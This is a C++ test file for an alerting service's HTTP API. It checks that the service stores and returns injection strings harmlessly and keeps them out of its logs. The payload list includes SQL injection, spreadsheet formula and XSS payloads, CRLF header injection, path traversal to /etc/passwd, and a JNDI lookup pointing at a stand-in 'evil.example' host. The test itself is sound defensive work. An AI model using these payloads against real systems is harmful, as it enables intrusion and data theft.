// Texts that are meant to become something else: a statement, a field of a header, a line of the log, a formula,
// markup. SPDX-License-Identifier: GPL-3.0-or-later
#include "tests/attack/cast.h"

#include <sstream>
#include <vector>

#include <boost/json.hpp>
#include <gtest/gtest.h>
#include <spdlog/sinks/ostream_sink.h>
#include <spdlog/spdlog.h>

namespace guardline::attack {
namespace {

namespace json = boost::json;
using api::Role;
using edge::test::EdgeHouse;
using edge::test::Person;

const std::vector<std::string> kHostile{"' OR '1'='1' --",
                                        "'; DROP TABLE access_account; --",
                                        "\"; DELETE FROM spine; --",
                                        "x' UNION SELECT seed FROM access_factor --",
                                        "$1 {blob} {bigint} ?1 :a @b",
                                        "%' LIKE '_%",
                                        "=cmd|' /C calc'!A0",
                                        "@SUM(1+1)*cmd",
                                        "<script>alert(7731)</script>",
                                        "\"><img src=x onerror=alert(7731)>",
                                        "{{name}} {{{secret}}} ${jndi:ldap://evil.example/a}",
                                        "%s%s%n{} {0} {:>9999999999}",
                                        "\\r\\nX-Injected: 7731",
                                        "%0d%0aX-Injected:%207731",
                                        "../../../../etc/passwd",
                                        "a\xE2\x80\xA8"
                                        "b\xE2\x80\xAE"
                                        "c\xC2\x85"
                                        "d",
                                        "𬱖😀",
                                        "\\u0000\\x00\\0"};

/// As a JSON text.
std::string quoted(const std::string& text) { return json::serialize(json::value(text)); }

class Injection : public testing::Test {
 protected:
  Injection() {
    before_ = spdlog::default_logger();
    auto logger = std::make_shared<spdlog::logger>("test", std::make_shared<spdlog::sinks::ostream_sink_mt>(log));
    logger->set_level(spdlog::level::trace);
    spdlog::set_default_logger(std::move(logger));
  }
  ~Injection() override { spdlog::set_default_logger(before_); }
  [[nodiscard]] Way way(const Person& person) const {
    return {.port = house.server->ops_port(), .ca = house.file("tls.crt"), .cert = person.cert, .key = person.key};
  }
  Reply post(RawLine& line, const Person& person, const std::string& path, const std::string& body,
             const std::string& key) {
    const auto reply = line.ask(
        request("POST", path, "Authorization: Bearer " + person.token + "\r\nIdempotency-Key: " + key + "\r\n", body));
    EXPECT_TRUE(reply) << path << body;
    if (reply) {
      EXPECT_EQ(reply->count("X-Injected"), 0U);
      EXPECT_LT(reply->status, 500) << body;
    }
    return reply.value_or(Reply{});
  }
  AlertId raise(int number) { return house.raise({.rule = "backlog" + std::to_string(number)}); }
  void expect_quiet_log(const std::vector<std::string>& secrets) {
    spdlog::default_logger()->flush();
    const auto text = log.str();
    for (const char c : text) {
      ASSERT_TRUE(c == '\n' || (c >= 0x20 && c < 0x7f))
          << "a byte in the log that is no letter: " << static_cast<int>(c);
    }
    std::istringstream lines(text);
    std::size_t count = 0;
    for (std::string line; std::getline(lines, line); ++count) EXPECT_TRUE(line.starts_with("[20")) << line;
    EXPECT_GT(count, 5U) << "it was this log";
    for (const auto& secret : secrets) EXPECT_EQ(text.find(secret), std::string::npos) << secret;
    for (const auto* mark : {"7731", "DROP", "UNION", "calc", "jndi", "passwd", "LIKE", "twelve horses", "OR '1'"}) {
      EXPECT_EQ(text.find(mark), std::string::npos) << mark;
    }
  }

  std::ostringstream log;
  EdgeHouse house;
  Person lead{house.add_person("lead", Role::supervisor)};

 private:
  std::shared_ptr<spdlog::logger> before_;
};

TEST_F(Injection, WordsOfPeopleComeBackAsTheyWereTyped) {
  RawLine line(way(lead));
  int number = 0;
  for (const auto& text : kHostile) {
    const auto alert = raise(++number);
    const auto path = "/v1/alerts/" + alert.text();
    const auto key = "k" + std::to_string(number);
    const auto shelf = std::to_string(to_micros(house.house.clock.now() + std::chrono::hours(1)));
    ASSERT_EQ(
        post(line, lead, path + "/acknowledge", R"({"occurrence":1,"comment":)" + quoted(text) + "}", key + "a").status,
        200)
        << text;
    ASSERT_EQ(post(line, lead, path + "/shelve",
                   R"({"occurrence":1,"until":)" + shelf + R"(,"reason":)" + quoted(text) + "}", key + "s")
                  .status,
              200);
    ASSERT_EQ(post(line, lead, path + "/resolve", R"({"occurrence":1,"done":)" + quoted(text) + "}", key + "r").status,
              200);
    const auto reply = line.ask(request("GET", path, "Authorization: Bearer " + lead.token + "\r\n"));
    ASSERT_TRUE(reply);
    const auto detail = wire::from_json<api::AlertDetail>(reply->body);
    ASSERT_TRUE(detail) << reply->body;
    int same = 0;
    for (const auto& entry : detail->log) same += entry.text == text ? 1 : 0;
    EXPECT_EQ(same, 3) << text;
    // As a key, a name, a path, a place.
    EXPECT_EQ(
        post(line, lead, path + "/assign", R"({"occurrence":1,"account":)" + quoted(text) + "}", key + "o").status,
        400);
    if (text.find(' ') == std::string::npos && text.find('"') == std::string::npos && text[0] >= 0 && text[0] < 0x7f) {
      static_cast<void>(post(line, lead, path + "/unshelve", R"({"occurrence":1})", text));
    }
  }
  // Control characters are no part of what people type.
  const auto alert = raise(99);
  for (const auto* text : {"a\\r\\nb", "a\\u0000b", "a\\u001b[2Jb", "a\\u007fb", "\\u0008"}) {
    EXPECT_EQ(post(line, lead, "/v1/alerts/" + alert.text() + "/acknowledge",
                   R"({"occurrence":1,"comment":")" + std::string(text) + "\"}", "c")
                  .code(),
              "invalid-body")
        << text;
  }
  expect_quiet_log({lead.token, "lead"});
}

TEST_F(Injection, NamesCodesAndTermsAreCompared) {
  RawLine line(way(lead));
  for (const auto& text : kHostile) {
    const auto refused = post(
        line, lead, "/v1/session",
        R"({"account":)" + quoted(text.substr(0, 60)) + R"(,"password":)" + quoted(text) + R"(,"totp":"000000"})", "k");
    EXPECT_TRUE(refused.status == 401 || refused.status == 429 || refused.status == 403 || refused.status == 400)
        << text << refused.body;
    house.house.clock.advance(std::chrono::hours(25));  // whatever waits there is now
    // Neither a code nor a search term is a statement.
    const auto step = post(line, lead, "/v1/session/step-up",
                           R"({"totp":"000000","reason":"other","note":)" + quoted(text) + "}", "k");
    EXPECT_EQ(step.status, 401) << "the session is long over";
    lead.token = house.house.signed_in("lead", lead.desk).token;
    const auto code = house.house.code(lead.desk);
    const auto good = post(line, lead, "/v1/session/step-up",
                           R"({"totp":")" + code + R"(","reason":"other","note":)" + quoted(text + " note") + "}", "k");
    EXPECT_EQ(good.status, 200) << text << good.body;
    for (const auto* term : {"reference", "name", "email", "phone"}) {
      const auto found =
          post(line, lead, "/v1/investors/search", std::string("{\"") + term + "\":" + quoted(text) + "}", "k");
      EXPECT_TRUE(found.status == 200 || found.status == 422 || found.status == 400) << text << found.body;
    }
  }
  // Everything is still there.
  EXPECT_EQ(house.house.access->accounts().list()->size(), 3U);
  EXPECT_GT(house.house.events().size(), 10U);
  expect_quiet_log({lead.token, "lead"});
}

TEST_F(Injection, AnEnrolmentBringsInNoMoreThanAName) {
  int number = 0;
  for (const auto& text : kHostile) {
    const auto account = house.house.add_account("newcomer" + std::to_string(++number));
    const auto key = crypto::PrivateKey::generate();
    const json::object body{{"secret", house.house.new_secret(account)},
                            {"csr_pem", crypto::CertificateRequest::make(*key, "desk")->pem()},
                            {"device_name", text},
                            {"shared", false}};
    RawLine line({.port = house.server->ops_port(), .ca = house.file("tls.crt")});
    const auto reply = line.ask(request("POST", "/v1/enrolment", {}, json::serialize(body)));
    ASSERT_TRUE(reply);
    if (text.find("\xC2\x85") != std::string::npos) {  // a control character of Unicode's
      EXPECT_EQ(reply->status, 400) << reply->body;
      continue;
    }
    EXPECT_EQ(reply->status, 201) << text << reply->body;
    const auto devices = house.house.access->devices().list();
    ASSERT_TRUE(devices);
    EXPECT_EQ(devices->front().name, text);
  }
  for (const auto* name : {"a\\nb", "a\\u0000b", "\\u001b]0;x\\u0007"}) {
    RawLine line({.port = house.server->ops_port(), .ca = house.file("tls.crt")});
    const auto reply =
        line.ask(request("POST", "/v1/enrolment", {},
                         R"({"secret":"AAAAAAAAAAAAAAAAAAAAAA","csr_pem":"x","shared":false,"device_name":")" +
                             std::string(name) + "\"}"));
    ASSERT_TRUE(reply);
    EXPECT_EQ(reply->code(), "invalid-body") << name;
  }
}

TEST_F(Injection, WhatStandsInFieldsAndPathsStaysThere) {
  const std::vector<std::string> fields{
      "User-Agent: 7731\x1b[31mred",    "User-Agent: a\rX-Injected: 7731",   "Referer: 7731\tDROP",
      "X-Forwarded-For: 7731, DROP",    "Accept-Language: 7731\xE2\x80\xA8", "Cookie: a=7731; DROP=1",
      "Idempotency-Key: 7731%0d%0aX: y"};
  const std::vector<std::string> targets{"/v1/hub",
                                         "/v1/zq73",
                                         "/v1/alerts/zq73'%20OR%201=1",
                                         "/v1/alerts?zq73=DROP",
                                         "/v1/hub?%0d%0aX-Injected:zq73",
                                         "/\x1b[31mzq73",
                                         "/v1/alerts/%s%nzq73"};
  ASSERT_EQ(fields.size(), targets.size());
  for (std::size_t i = 0; i < 2 * fields.size(); ++i) {  // each in two companies
    const auto& field = fields[i % fields.size()];
    const auto& target = targets[(i + i / fields.size() * 3) % targets.size()];
    RawLine line(way(lead));
    line.send("GET " + target + " HTTP/1.1\r\nHost: zq73\r\nConnection: close\r\n" + field +
              "\r\nAuthorization: Bearer " + lead.token + "\r\n\r\n");
    line.finish();
    const auto all = line.rest();
    EXPECT_NE(all.find("HTTP/1.1 "), std::string::npos) << field << target;
    EXPECT_EQ(all.find("zq73"), std::string::npos) << field << target << all;
    EXPECT_EQ(all.find("X-Injected"), std::string::npos) << all;
    EXPECT_EQ(all.find("HTTP/1.1 5"), std::string::npos) << all;
  }
  expect_quiet_log({lead.token, "lead"});
}

}  // namespace
}  // namespace guardline::attack
